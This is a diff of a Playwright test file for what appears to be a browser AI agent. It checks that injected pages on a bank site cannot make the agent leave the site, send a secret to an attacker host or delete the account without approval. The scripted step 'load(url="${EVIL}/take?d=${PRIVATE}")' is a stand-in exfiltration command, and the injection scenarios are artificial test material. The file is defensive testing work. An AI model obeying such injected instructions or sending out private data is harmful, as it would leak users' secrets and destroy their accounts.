@@ -26,36 +26,42 @@ async function openInjection(page: Page, injection: InjectionPage): Promise<stri
 
 test.afterEach(({ page }) => page.context().unrouteAll({ behavior: 'ignoreErrors' }));
 
-for (const injection of INJECTIONS) {
-  test(`cannot be made to leave, tell or delete by ${injection.name}`, async ({
+// Half of the pages in each test, so that two workers share them.
+for (const half of [0, 1]) {
+  test(`leaves no site, sends no secret and deletes nothing on a page's word (${half + 1} of 2)`, async ({
     app,
     connect,
     page,
     panel,
   }) => {
-    const arrived = await openInjection(page, injection);
-    const rules = await readRules(panel);
-    const [away, remove] = [
-      await findUid(app, panel, page, 'Statement'),
-      await findUid(app, panel, page, 'Delete account'),
-    ];
-    await connect([
-      `load(url="${EVIL}/take?d=${PRIVATE}")`,
-      `click(uid="${away}")`,
-      `click(uid="${remove}")`,
-      END,
-    ]);
-    const events = await sendAs(app, panel, page, REQUEST, 'deny');
-    expect(tellApprovals(events)).toEqual([
-      'asked: leave-sites, carry-data',
-      'asked: leave-sites',
-      'asked: delete',
-    ]);
-    expect(events.at(-1)).toMatchObject({ type: 'ended', outcome: 'done' });
-    expect(arrived).toEqual([]);
-    expect(page.url()).toBe(BANK);
-    expect(await page.locator('#remove').textContent()).toBe('Delete account');
-    expect(await readRules(panel)).toEqual(rules);
+    for (const injection of INJECTIONS.filter((_, n) => n % 2 === half)) {
+      await test.step(injection.name, async () => {
+        const arrived = await openInjection(page, injection);
+        const rules = await readRules(panel);
+        const [away, remove] = [
+          await findUid(app, panel, page, 'Statement'),
+          await findUid(app, panel, page, 'Delete account'),
+        ];
+        await connect([
+          `load(url="${EVIL}/take?d=${PRIVATE}")`,
+          `click(uid="${away}")`,
+          `click(uid="${remove}")`,
+          END,
+        ]);
+        const events = await sendAs(app, panel, page, REQUEST, 'deny');
+        expect(tellApprovals(events)).toEqual([
+          'asked: leave-sites, carry-data',
+          'asked: leave-sites',
+          'asked: delete',
+        ]);
+        expect(events.at(-1)).toMatchObject({ type: 'ended', outcome: 'done' });
+        expect(arrived).toEqual([]);
+        expect(page.url()).toBe(BANK);
+        expect(await page.locator('#remove').textContent()).toBe('Delete account');
+        expect(await readRules(panel)).toEqual(rules);
+        await page.context().unrouteAll({ behavior: 'ignoreErrors' });
+      });
+    }
   });
 }
 
